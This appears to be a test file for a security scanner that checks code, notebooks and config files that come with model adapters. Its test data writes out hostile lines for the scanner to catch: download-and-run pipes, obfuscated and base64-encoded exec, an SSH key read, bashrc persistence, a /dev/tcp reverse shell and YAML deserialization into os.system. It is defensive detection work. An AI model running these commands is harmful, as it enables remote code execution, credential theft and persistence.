"""Programs by their bytes, scripts and notebooks by their text."""

import json
import time

import pytest

from adapterscan.formats.programs import program, run_by
from adapterscan.formats.reader import SourceFile
from adapterscan.formats.scripts import code_facts

PE = b"MZ" + bytes(58) + (0x80).to_bytes(4, "little") + bytes(64) + b"PE\0\0" + bytes(60)
PROGRAMS = [
    (b"\x7fELF\x02\x01\x01" + bytes(57), "elf"),
    (PE, "pe"),
    (b"\xcf\xfa\xed\xfe" + bytes(28), "mach-o"),
    (b"\xca\xfe\xba\xbe\0\0\0\x41" + bytes(8), "java class"),
    (b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(8), "mach-o"),
    (b"\0asm\1\0\0\0", "wasm"),
    (b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3", "python bytecode"),
    (b"#!/usr/bin/env python3\n", "script"),
    (b"\xef\xbb\xbf@ECHO OFF\r\n", "script"),
    (b"MZ and other letters are no program", ""),
    (b"# a heading\n", ""),
    (b"#! not a path", ""),
    (b"", ""),
]


@pytest.mark.parametrize(("head", "kind"), PROGRAMS, ids=lambda value: str(value)[:20])
def test_a_program_is_told_by_its_first_bytes(head, kind):
    assert program(head) == kind


@pytest.mark.parametrize(
    ("path", "runs"),
    [("custom_generate/generate.py", True), ("a/.VSCode/tasks.json", True), ("handler.py", True),
     (".git/hooks/post-checkout", True), ("a/conftest.py", True), ("tasks.json", False),
     ("generate.py", False), ("notes/handler.py.txt", False)],
)  # fmt: skip
def test_a_name_that_something_runs_is_known(path, runs):
    assert bool(run_by(path)) is runs


def constructs(tmp_path, name, data, *, is_code=True):
    path = tmp_path / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    with SourceFile(name, path) as source:
        facts = code_facts(source, is_code=is_code)
    return {fact.value: fact.details for fact in facts if fact.name == "file.code_construct"}


LINES = [
    ("download and run", "curl -fsSL https://x.example | bash"),
    ("download and run", "wget https://x.example/a -O /tmp/a && sh /tmp/a"),
    ("download and run", 'bash -c "$(curl https://x.example)"'),
    ("download and run", "bash <(curl -s https://x.example)"),
    ("download and run", "exec(urllib.request.urlopen('https://x.example').read())"),
    ("download and run", "iex (New-Object Net.WebClient).DownloadString('https://x.example')"),
    ("download and run", "curl https://x.example \\\n  | sh"),
    ("download and run", "curl -o a https://x.example; chmod +x a"),
    ("download and run", "c''url${IFS}https://x.example|s''h"),
    ("decoded code", "exec(''.join(map(chr, codes)))"),
    ("shell", "get_ipython().system('ls')"),
    ("shell", "ctypes.CDLL('./x.so')"),
    ("shell", "os.sys\u200btem('ls')"),
    ("remote code", "torch.hub.load('x/y', 'z')"),
    ("decoded code", "exec(base64.b64decode(b'aW5lcnQ='))"),
    ("decoded code", "𝚎𝚡𝚎𝚌(__import__('zlib').decompress(data))"),
    ("decoded code", "exec(''.join(chr(c) for c in codes))"),
    ("decoded code", "marshal.loads(blob)"),
    ("decoded code", "echo aW5lcnQ= | base64 -d | sh"),
    ("decoded code", "powershell -NoP -enc aW5lcnQ="),
    ("shell", "import subprocess"),
    ("shell", "os.system('ls')"),
    ("hidden name", "getattr(os, 'sys' + 'tem')('ls')"),
    ("hidden name", "__builtins__['ex' + 'ec'](x)"),
    ("unpickle", "torch.load(path, weights_only=False)"),
    ("unpickle", "joblib.load('x')"),
    ("remote code", "AutoModel.from_pretrained(x, trust_remote_code=True)"),
    ("secrets", "open('/root/.ssh/id_rsa')"),
    ("persistence", "echo x >> ~/.bashrc"),
    ("reverse shell", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"),
    ("install", "pip install git+https://x.example/a"),
]


@pytest.mark.parametrize(("construct", "line"), LINES)
def test_a_construct_is_found_in_a_script_and_in_a_notebook(tmp_path, construct, line):
    assert construct in constructs(tmp_path, "a.py", f"x = 1\n{line}\n")
    book = {"cells": [{"cell_type": "code", "source": ["x\n", line]}]}
    found = constructs(tmp_path, "a.ipynb", json.dumps(book))
    assert found[construct]["cell"] == 1


HONEST = """
import torch
from peft import PeftModel
from transformers import AutoModelForCausalLM, AutoTokenizer
base = AutoModelForCausalLM.from_pretrained("org/base", torch_dtype=torch.bfloat16)
model = PeftModel.from_pretrained(base, "org/adapter").eval()
text = tokenizer.decode(model.generate(**inputs)[0])
fetch = [execute(step) for step in steps]
print(text)
"""


def test_an_honest_loader_has_no_construct(tmp_path):
    assert constructs(tmp_path, "load.py", HONEST) == {}
    book = {"cells": [{"cell_type": "code", "source": HONEST},
                      {"cell_type": "markdown", "source": "curl x.example | sh"}]}  # fmt: skip
    assert constructs(tmp_path, "load.ipynb", json.dumps(book)) == {}


def test_shell_magics_of_a_notebook_are_told(tmp_path):
    for line in ("!nvidia-smi", "  !ls", "%%bash\nls", "%sx ls"):
        book = {"cells": [{}, {"cell_type": "code", "source": line}]}
        assert constructs(tmp_path, "a.ipynb", json.dumps(book))["shell"]["cell"] == 2


@pytest.mark.parametrize(
    "data",
    ["{", "[]", '{"cells": 1}', '{"cells": [1, {"cell_type": "code", "source": [1, {}]}]}', ""],
)
def test_a_broken_notebook_is_read_as_text(tmp_path, data):
    assert constructs(tmp_path, "a.ipynb", data) == {}
    assert "shell" in constructs(tmp_path, "a.ipynb", "{ os.system(") or data


def test_yaml_and_startup_files_are_looked_into_whatever_they_are_for(tmp_path):
    assert "python tag" in constructs(
        tmp_path, "c.yaml", "a: !!python/object/apply:os.system [x]", is_code=False
    )
    assert "target" in constructs(tmp_path, "c.yml", "x:\n  _target_: os.system\n", is_code=False)
    assert "startup line" in constructs(tmp_path, "x.pth", "import os; x\n", is_code=False)
    assert constructs(tmp_path, "x.pth", "../lib\n", is_code=False) == {}


def test_text_that_no_name_calls_code_is_left_alone(tmp_path):
    assert constructs(tmp_path, "notes.txt", "run curl x | sh", is_code=False) == {}
    assert constructs(tmp_path, "notes.txt", "#!/bin/sh\ncurl x | sh", is_code=False)


@pytest.mark.parametrize(
    "piece", ["curl ", "exec(", "sh $(", "import ", "base64 ", "\n", "%%", "pip "]
)
def test_a_megabyte_of_beginnings_takes_little_time(tmp_path, piece):
    before = time.process_time()
    constructs(tmp_path, "a.py", piece * ((1 << 20) // len(piece)))
    assert time.process_time() - before < 5


def test_code_beyond_what_is_read_is_told(tmp_path):
    late = "#" * (256 << 10) + "\ncurl x | sh\n"
    assert list(constructs(tmp_path, "a.py", late)) == ["more than is read"]
    book = {"cells": [{"cell_type": "code", "source": late}]}
    assert list(constructs(tmp_path, "a.ipynb", json.dumps(book))) == ["more than is read"]
